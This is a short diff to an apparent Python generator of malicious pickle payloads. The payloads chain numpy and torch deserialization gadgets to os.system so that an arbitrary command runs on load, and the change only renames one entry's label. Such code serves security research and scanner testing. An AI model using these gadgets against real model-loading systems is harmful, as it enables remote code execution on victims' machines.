@@ -102,7 +102,7 @@ def payloads(cmd: str) -> dict[str, tuple[bytes, str]]:
                        "numpy.load"),
         "numpy.core.multiarray._reconstruct": (G("numpy.core.multiarray", "_reconstruct")
                                                + b"(" + G("os", "system") + b")" + X(cmd)
-                                               + b"tR", "numpy.core.multiarray._reconstruct"),
+                                               + b"tR", "os.system"),
         "torch.serialization._get_restore_location": (
             G("torch.serialization", "_get_restore_location") + G("os", "system")
             + b"\x85R(" + X(cmd) + X("cpu") + b"tR",
